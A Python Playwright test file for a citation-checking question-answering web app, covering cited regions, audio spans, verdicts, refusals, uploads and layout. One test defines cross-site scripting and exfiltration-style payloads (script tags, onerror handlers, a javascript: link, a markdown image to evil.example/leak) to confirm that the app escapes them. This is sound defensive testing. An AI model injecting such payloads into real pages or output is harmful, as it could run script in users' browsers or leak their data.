"""The page in a real browser: from a question to the outlined region that bears the answer out."""

from __future__ import annotations

import io
import time
from collections.abc import Callable
from pathlib import Path
from zipfile import is_zipfile

import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from pincite.answers import Answered, Label
from tests.browser.conftest import OpenPage
from tests.unit.serving.live import Live
from tests.unit.serving.scripted import ScriptedService
from tests.unit.serving.scripted_library import ANSWER, FALSE_DRAFT, REFUSAL, sentence

pytestmark = pytest.mark.browser
_DONE_MS = 15_000


def _ask(page: Page, question: str = "When did the harbour open?") -> None:
    page.fill("#question", question)
    page.keyboard.press("Enter")


def _answered(page: Page) -> None:
    expect(page.locator(".turn[aria-busy=false] .foot > .fine").last).to_be_visible(
        timeout=_DONE_MS
    )


def _until(page: Page, holds: Callable[[], bool]) -> None:
    """The page's policy forbids what Playwright's own waiting does in the page."""
    deadline = time.monotonic() + 10
    while not holds():
        assert time.monotonic() < deadline
        page.wait_for_timeout(50)


def _played(page: Page) -> float:
    return float(page.evaluate("document.querySelector('audio').currentTime"))


def test_the_address_loses_its_token_and_the_page_shows_the_library(
    open_page: OpenPage, running: Live
) -> None:
    page = open_page()
    assert page.url == f"{running.url}/"
    expect(page.locator(".source-name").first).to_have_text("harbour report.pdf")
    expect(page.locator("#scope")).to_have_text("2 of 3 files read (13 of 14 pages, 1 failed)")
    expect(page.locator("#reader")).to_have_text("scripted · on this machine")
    assert page.evaluate("document.cookie") == ""


def test_without_the_token_the_page_is_locked_and_still_looks_like_ours(
    open_page: OpenPage, running: Live
) -> None:
    page = open_page()
    page.context.clear_cookies()
    page.goto(running.url)
    expect(page.locator("h1")).to_have_text("This library is locked")
    size = page.evaluate("getComputedStyle(document.querySelector('h1')).fontSize")
    assert size == "28.8px", "its style is allowed by its hash"


def test_quotes_come_first_and_drafts_are_drafts_until_checked(
    open_page: OpenPage, service: ScriptedService
) -> None:
    service.pause_s = 0.15
    page = open_page()
    _ask(page)
    expect(page.locator(".quote-text").first).to_contain_text("opened in 1872")
    draft = page.locator(".draft").first
    expect(draft).to_be_visible()
    expect(draft.locator(".draft-badge")).to_contain_text("draft")
    assert page.locator(".sentence").count() == 0
    _answered(page)
    expect(page.locator(".draft")).to_have_count(0)
    chips = [" ".join(t.split()) for t in page.locator(".verdict-chip").all_inner_texts()]
    assert chips == ["✓ supported", "✗ contradicted", "✓ supported"]
    expect(page.locator("del.was")).to_contain_text(FALSE_DRAFT)
    expect(page.locator(".summary")).to_contain_text("2 of 3 supported")


def test_the_reason_of_a_verdict_shows_on_focus(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    chip = page.locator(".verdict.contradicted .verdict-chip")
    why = page.locator(".verdict.contradicted .why")
    expect(why).to_be_hidden()
    chip.focus()
    expect(why).to_be_visible()
    expect(why).to_contain_text("The recording says 40 tonnes")
    assert chip.get_attribute("aria-describedby") == why.get_attribute("id")


@pytest.mark.parametrize("width", [1440, 1000, 390])
def test_a_citation_opens_its_page_with_the_region_outlined(
    open_page: OpenPage, width: int
) -> None:
    page = open_page(width=width)
    _ask(page)
    _answered(page)
    page.locator(".sentence .cite").first.click()
    page.wait_for_selector(".sheet.loaded")
    sheet = page.locator(".sheet img").bounding_box()
    region = page.locator(".region").bounding_box()
    assert sheet is not None
    assert region is not None
    slack = 4 * sheet["width"] / 595 + 3
    assert abs((region["x"] - sheet["x"]) / sheet["width"] - 72 / 595) * sheet["width"] < slack
    assert abs((region["y"] - sheet["y"]) / sheet["height"] - 120 / 842) * sheet["height"] < slack
    assert abs(region["width"] - 451 / 595 * sheet["width"]) < 2 * slack
    assert abs(region["height"] - 40 / 842 * sheet["height"]) < 2 * slack
    shot = Image.open(io.BytesIO(page.screenshot())).convert("RGB")
    inside = shot.getpixel((int(region["x"] + region["width"] * 0.9), int(region["y"] + 8)))
    outside = shot.getpixel((int(region["x"] + region["width"] * 0.9), int(region["y"] - 12)))
    assert isinstance(inside, tuple)
    assert isinstance(outside, tuple)
    assert inside[2] < inside[0] - 30, "the region is tinted"
    assert outside == (255, 255, 255), "the page around it is not"


def test_the_quoted_words_are_marked_inside_the_region(
    open_page: OpenPage, service: ScriptedService
) -> None:
    quoted = ANSWER.citations[0].model_copy(update={"quote": "opened in 1872"})
    service.answer_given = ANSWER.model_copy(
        update={"citations": (quoted, *ANSWER.citations[1:]), "quotes": ()}
    )
    page = open_page()
    _ask(page)
    _answered(page)
    page.locator(".sentence .cite").first.click()
    expect(page.locator(".word")).to_have_count(3)
    region, first = (
        page.locator(".region").bounding_box(),
        page.locator(".word").first.bounding_box(),
    )
    assert region is not None
    assert first is not None
    assert first["x"] > region["x"] + region["width"] * 0.15
    assert first["y"] >= region["y"] - 1


def test_a_spoken_citation_plays_exactly_its_span(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    page.locator(".sentence .cite").first.click()
    page.keyboard.press("ArrowRight")
    audio = page.locator("audio")
    expect(audio).to_be_visible()
    _until(page, lambda: _played(page) > 2.2)
    expect(page.locator(".line.cited")).to_contain_text("The crane lifts forty tonnes.")
    _until(page, lambda: bool(page.evaluate("document.querySelector('audio').paused")))
    assert 3.9 < _played(page) < 4.6


def test_a_citation_of_a_video_shows_its_picture_with_the_region_outlined(
    open_page: OpenPage, service: ScriptedService
) -> None:
    page = open_page()
    page.evaluate(
        """async () => {
          const { openEvidence } = await import("/web/viewer.js");
          const box = { kind: "frame", at_s: 65.5, left: 64, top: 36, right: 320, bottom: 72,
                        frame_width: 640, frame_height: 360 };
          openEvidence([{ number: 1, element: "s1.0", source: "s1", source_name: "talk.mp4",
                          source_version: 1, medium: "video", kind: "text", locators: [box],
                          quote: "Budget", confidence: 0.9 }], 0);
        }"""
    )
    page.wait_for_selector(".sheet.loaded")
    assert ("frame", ("s1", 65.5)) in service.heard
    expect(page.locator(".viewer-title")).to_contain_text("1:05")
    expect(page.locator(".viewer-facts")).to_contain_text("Read with 90")
    sheet = page.locator(".sheet img").bounding_box()
    region = page.locator(".region").bounding_box()
    assert sheet is not None
    assert region is not None
    assert abs((region["x"] - sheet["x"]) / sheet["width"] - 0.1) < 0.03
    assert abs(region["width"] / sheet["width"] - 0.4) < 0.06


def test_a_text_source_shows_the_cited_part_marked(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    page.locator(".cited .cite").last.click()
    expect(page.locator(".extract .cited mark")).to_have_text("The mole is 310 metres long.")


def test_evidence_works_by_keyboard_alone(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    cite = page.locator(".sentence .cite").first
    cite.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#viewer")).to_be_visible()
    assert page.evaluate("document.activeElement.ariaLabel") == "Close the evidence"
    page.keyboard.press("Escape")
    expect(page.locator("#viewer")).to_be_hidden()
    assert page.evaluate("document.activeElement.dataset.cite") == "1"


def test_a_refusal_says_what_was_searched(open_page: OpenPage, service: ScriptedService) -> None:
    service.answer_given = REFUSAL
    page = open_page()
    _ask(page, "Who paid?")
    expect(page.locator(".refusal")).to_contain_text("The library does not say who paid.")
    assert page.locator(".query").all_inner_texts() == ["who paid", "harbour funding"]
    page.locator(".near .quote").click()
    expect(page.locator(".viewer-title h2")).to_have_text("harbour report.pdf")


def test_an_answer_can_be_kept_with_all_it_rests_on(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    with page.expect_download() as download:
        page.click(".foot a:text-is('dossier')")
    assert is_zipfile(download.value.path())


def test_stopping_ends_the_work_and_leaves_no_draft(
    open_page: OpenPage, service: ScriptedService
) -> None:
    service.pause_s = 0.4
    page = open_page()
    _ask(page)
    expect(page.locator(".draft").first).to_be_visible()
    page.click("#send")
    expect(page.locator(".turn")).to_contain_text("Stopped.")
    expect(page.locator(".draft")).to_have_count(0)
    _until(page, service.ask_closed.is_set)
    assert page.locator("#send").inner_text() == "Ask"


def test_files_are_added_and_deleted(
    open_page: OpenPage, service: ScriptedService, tmp_path: Path
) -> None:
    page = open_page()
    (tmp_path / "new.txt").write_text("hello")
    page.set_input_files("#files", tmp_path / "new.txt")
    _until(page, lambda: bool(service.uploaded))
    expect(page.locator(".source.sending")).to_have_count(0)
    assert service.uploaded == [("new.txt", b"hello")]
    page.locator(".source", has_text="notes.md").hover()
    page.get_by_role("button", name="Delete notes.md").click()
    expect(page.locator("#confirm")).to_contain_text("cannot be undone")
    page.get_by_role("button", name="Keep it").click()
    assert len(service.statuses) == 3
    page.get_by_role("button", name="Delete notes.md").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator(".source", has_text="notes.md")).to_have_count(0)
    assert ("delete", ("s3", True)) in service.heard


def test_a_page_that_failed_is_shown_with_its_reason(open_page: OpenPage) -> None:
    page = open_page()
    page.locator(".source-open").first.click()
    expect(page.locator(".unit")).to_have_count(12)
    expect(page.locator(".unit.failed")).to_have_attribute(
        "title", "page 12: failed – the page is damaged"
    )
    expect(page.locator(".why-failed")).to_have_text("Page 12: the page is damaged")


EVIL = (
    '<img src=x onerror="alert(1)"><script>alert(2)</script> ![x](https://evil.example/leak?q=1) '
    '[click](https://evil.example) <a href="javascript:alert(3)">x</a> https://evil.example/ [1]'
)


def test_nothing_of_a_document_or_a_model_becomes_markup_or_leaves(
    open_page: OpenPage, service: ScriptedService
) -> None:
    citation = ANSWER.citations[0].model_copy(update={"source_name": EVIL, "quote": EVIL})
    quote = ANSWER.quotes[0].model_copy(update={"text": EVIL, "citation": citation})
    service.answer_given = Answered.model_validate(
        {
            **ANSWER.model_dump(),
            "sentences": (sentence(1, EVIL, Label.UNSUPPORTED, reason=EVIL).model_dump(),),
            "quotes": (quote.model_dump(),),
            "citations": (citation.model_dump(),),
        }
    )
    evil_source = service.statuses[0].source.model_copy(update={"name": EVIL, "origin": EVIL})
    service.statuses[0] = service.statuses[0].model_copy(update={"source": evil_source})
    page = open_page()
    _ask(page, EVIL)
    _answered(page)
    page.locator(".sentence .cite").first.click()
    page.wait_for_selector(".sheet.loaded")
    assert page.locator(".turn img, .turn script, .library img").count() == 0
    dossier = f"/v1/answers/{ANSWER.id}/dossier.zip"
    links = page.locator("a:not(.skip)").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    assert len(links) == 2, "the dossier and the way to the original, nothing else"
    assert links.count(dossier) == 1
    assert page.locator(".turn a").get_attribute("href") == dossier
    assert "<img src=x" in page.locator(".sentence").inner_text()
    assert page.locator(".viewer-foot blockquote").inner_text() == EVIL


def test_a_citation_that_names_nothing_is_struck(
    open_page: OpenPage, service: ScriptedService
) -> None:
    invented = sentence(1, "It is old [9].", Label.UNSUPPORTED)
    service.answer_given = ANSWER.model_copy(update={"sentences": (invented,)})
    page = open_page()
    _ask(page)
    _answered(page)
    expect(page.locator(".invented")).to_have_text("[9]")
    assert page.locator(".sentence .cite").count() == 0


@pytest.mark.parametrize("width", [320, 390, 820, 1180])
def test_nothing_is_wider_than_the_screen(open_page: OpenPage, width: int) -> None:
    page = open_page(width=width, height=700)
    _ask(page, "A question with a very long word " + "x" * 200)
    _answered(page)
    wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert wide <= 0
    talk = page.evaluate("(n => n.scrollWidth - n.clientWidth)(document.querySelector('#turns'))")
    assert talk <= 0


def test_without_a_service_the_page_says_so(open_page: OpenPage, service: ScriptedService) -> None:
    page = open_page()
    page.context.set_offline(True)
    _ask(page)
    expect(page.locator(".failure")).to_contain_text("Is `pincite serve` still running?")
    page.context.set_offline(False)
    page.get_by_role("button", name="Try again").click()
    _answered(page)
    assert service.heard


def test_words_that_are_not_borne_out_are_marked(open_page: OpenPage) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    expect(page.locator("mark.doubt")).to_have_text(["900 tonnes"])
    expect(page.locator(".claim.contradicted")).to_have_text("The crane lifts 900 tonnes.")


def test_a_reader_can_say_that_a_verdict_is_wrong(
    open_page: OpenPage, service: ScriptedService
) -> None:
    page = open_page()
    _ask(page)
    _answered(page)
    claim = page.locator(".sentence", has_text="900 tonnes")
    claim.hover()
    claim.locator(".flag").click()
    form = claim.locator(".flag-form")
    form.locator("select").select_option("supported")
    form.locator("input").fill("<img src=x> it does")
    form.get_by_role("button", name="Keep").click()
    expect(claim.locator(".flagged")).to_have_text("noted as wrong")
    [kept] = service.objections
    assert kept.objection.note == "<img src=x> it does"
    assert (kept.shown, kept.objection.label) == (Label.CONTRADICTED, Label.SUPPORTED)
